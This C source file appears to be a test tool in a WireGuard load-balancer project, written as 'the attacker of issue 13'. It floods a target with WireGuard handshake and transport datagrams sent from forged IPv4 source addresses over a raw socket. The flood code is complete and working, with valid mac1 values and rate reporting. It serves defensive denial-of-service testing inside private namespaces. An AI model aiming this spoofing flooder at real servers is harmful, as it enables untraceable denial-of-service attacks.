// SPDX-License-Identifier: MIT
/*
 * wglb-spoof: the attacker of issue 13, for tests and the dos scenario.
 * Sends WireGuard-shaped datagrams to wglb from forged IPv4 sources (a
 * raw socket, IP_HDRINCL) and never reads a reply: handshake initiations
 * with a valid mac1 (anyone with a client config can make them: the
 * servers' public key is all it takes) mixed with blind transport data,
 * or with -a the rest split evenly between responses (valid mac1 too),
 * cookie replies and transport: every message type.
 * Bounded by a count and a duration; prints what it sent and its rate.
 * Only ever aim it at addresses in namespaces you made.
 *
 *   wglb-spoof -t IP:PORT -s 203.0.0.0/16 [-k PUBKEY] [-i PERCENT] [-a] [-n COUNT]
 *              [-d SECONDS] [-r PPS]
 */
#include "wglb/mac.h"
#include "wglb/wgmsg.h"

#include <arpa/inet.h>
#include <blake2.h>
#include <errno.h>
#include <getopt.h>
#include <stdbool.h>
#include <netinet/in.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <sodium.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define BATCH 64
#define POOL  1024 /* distinct initiations and responses, each with a valid mac1 */

/* A handshake message of type t and size len with random content, a valid
 * mac1 when k is given, and no mac2 (its sender never had a cookie). */
static void handshake(uint8_t *m, uint8_t t, size_t len, const struct mac1_key *k)
{
	size_t mac1 = len - 2 * WG_MAC_LEN;

	randombytes_buf(m, len);
	memset(m, 0, 4);
	m[0] = t;
	if (k)
		blake2s(m + mac1, m, k->k, WG_MAC_LEN, mac1, sizeof(k->k));
	memset(m + mac1 + WG_MAC_LEN, 0, WG_MAC_LEN);
}

static double now_s(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

static int parse_prefix(const char *s, uint32_t *net, uint32_t *mask)
{
	char buf[32];
	const char *slash = strchr(s, '/');
	unsigned bits;
	struct in_addr a;

	if (!slash || (size_t)(slash - s) >= sizeof(buf))
		return -1;
	memcpy(buf, s, (size_t)(slash - s));
	buf[slash - s] = '\0';
	bits = (unsigned)atoi(slash + 1);
	if (inet_pton(AF_INET, buf, &a) != 1 || bits < 8 || bits > 32)
		return -1;
	*mask = bits == 32 ? 0 : (uint32_t)((1ull << (32 - bits)) - 1);
	*net = ntohl(a.s_addr) & ~*mask;
	return 0;
}

static int parse_target(const char *s, struct sockaddr_in *to)
{
	char buf[32];
	const char *colon = strrchr(s, ':');

	if (!colon || (size_t)(colon - s) >= sizeof(buf))
		return -1;
	memcpy(buf, s, (size_t)(colon - s));
	buf[colon - s] = '\0';
	memset(to, 0, sizeof(*to));
	to->sin_family = AF_INET;
	to->sin_port = htons((uint16_t)atoi(colon + 1));
	return inet_pton(AF_INET, buf, &to->sin_addr) == 1 && to->sin_port ? 0 : -1;
}

int main(int argc, char **argv)
{
	const char *target = NULL, *prefix = NULL, *pub = NULL;
	unsigned init_pct = 50;
	unsigned long long count = 1000000, sent = 0, inits = 0;
	bool all_types = false;
	double dur = 10, pps = 0;
	struct sockaddr_in to;
	uint32_t net = 0, mask = 0;
	static uint8_t pool[POOL][WG_INITIATION_SIZE], resp[POOL][WG_RESPONSE_SIZE];
	static uint8_t pkt[BATCH][20 + 8 + WG_INITIATION_SIZE];
	struct mmsghdr mm[BATCH];
	struct iovec iov[BATCH];
	bool is_init[BATCH];
	struct mac1_key k;
	int opt, fd, one = 1;

	while ((opt = getopt(argc, argv, "t:s:k:i:an:d:r:h")) != -1) {
		switch (opt) {
		case 't': target = optarg; break;
		case 's': prefix = optarg; break;
		case 'k': pub = optarg; break;
		case 'i': init_pct = (unsigned)atoi(optarg); break;
		case 'a': all_types = true; break;
		case 'n': count = strtoull(optarg, NULL, 10); break;
		case 'd': dur = atof(optarg); break;
		case 'r': pps = atof(optarg); break;
		default:
			fprintf(stderr, "usage: wglb-spoof -t IP:PORT -s NET/BITS [-k PUBKEY] [-i INIT%%] [-a] "
					"[-n COUNT] [-d SECONDS] [-r PPS]\n");
			return 2;
		}
	}
	if (!target || !prefix || parse_target(target, &to) < 0 || parse_prefix(prefix, &net, &mask) < 0 ||
	    init_pct > 100 || dur <= 0 || dur > 600 || sodium_init() < 0) {
		fprintf(stderr, "wglb-spoof: need -t IP:PORT and -s NET/BITS (8-32), -i 0-100, -d <= 600\n");
		return 2;
	}
	if (pub && mac1_key_from_base64(pub, &k) < 0) {
		fprintf(stderr, "wglb-spoof: -k is not a WireGuard public key\n");
		return 2;
	}
	for (unsigned i = 0; i < POOL; i++) {
		handshake(pool[i], WG_T_INITIATION, WG_INITIATION_SIZE, pub ? &k : NULL);
		handshake(resp[i], WG_T_RESPONSE, WG_RESPONSE_SIZE, pub ? &k : NULL);
	}
	fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
	if (fd < 0 || setsockopt(fd, IPPROTO_IP, IP_HDRINCL, &one, sizeof(one)) < 0) {
		fprintf(stderr, "wglb-spoof: raw socket: %s (needs root)\n", strerror(errno));
		return 1;
	}
	memset(mm, 0, sizeof(mm));
	for (unsigned i = 0; i < BATCH; i++) {
		iov[i].iov_base = pkt[i];
		mm[i].msg_hdr.msg_iov = &iov[i];
		mm[i].msg_hdr.msg_iovlen = 1;
		mm[i].msg_hdr.msg_name = &to;
		mm[i].msg_hdr.msg_namelen = sizeof(to);
	}
	double t0 = now_s(), t = t0;
	while (sent < count && (t = now_s()) - t0 < dur) {
		unsigned n = count - sent < BATCH ? (unsigned)(count - sent) : BATCH;
		if (pps > 0 && (double)sent > pps * (t - t0)) {
			usleep(200);
			continue;
		}
		for (unsigned i = 0; i < n; i++) {
			uint8_t *p = pkt[i];
			struct iphdr *ip = (struct iphdr *)p;
			struct udphdr *udp = (struct udphdr *)(p + 20);
			uint8_t *wg = p + 28;
			uint32_t r = randombytes_random();
			bool init = r % 100 < init_pct;
			unsigned other = all_types ? (r >> 20) % 3 : 2; /* response, cookie, transport */
			unsigned len = init ? WG_INITIATION_SIZE
				       : other == 0 ? WG_RESPONSE_SIZE
				       : other == 1 ? WG_COOKIE_SIZE
						    : 32 + (r >> 8) % 64;
			is_init[i] = init;
			if (init) {
				memcpy(wg, pool[(r >> 8) % POOL], len);
			} else if (other == 0) {
				memcpy(wg, resp[(r >> 8) % POOL], len);
			} else {
				/* A cookie reply or transport: random, naming a
				 * receiver index it cannot know. */
				randombytes_buf(wg, len);
				memset(wg, 0, 4);
				wg[0] = other == 1 ? WG_T_COOKIE : WG_T_TRANSPORT;
			}
			memset(ip, 0, sizeof(*ip));
			ip->version = 4;
			ip->ihl = 5;
			ip->ttl = 64;
			ip->protocol = IPPROTO_UDP;
			ip->tot_len = htons((uint16_t)(28 + len));
			ip->saddr = htonl(net | (randombytes_random() & mask));
			ip->daddr = to.sin_addr.s_addr;
			udp->source = htons((uint16_t)(1024 + randombytes_uniform(64512)));
			udp->dest = to.sin_port;
			udp->len = htons((uint16_t)(8 + len));
			udp->check = 0; /* optional over IPv4 */
			iov[i].iov_len = 28 + len;
		}
		int m = sendmmsg(fd, mm, n, 0);
		if (m < 0) {
			if (errno == ENOBUFS || errno == EAGAIN)
				continue;
			fprintf(stderr, "wglb-spoof: sendmmsg: %s\n", strerror(errno));
			return 1;
		}
		sent += (unsigned)m;
		for (int i = 0; i < m; i++)
			inits += is_init[i];
	}
	t = now_s() - t0;
	printf("sent %llu datagrams (%llu initiations) in %.2f s: %.0f pps\n", sent, inits, t,
	       (double)sent / t);
	close(fd);
	return 0;
}
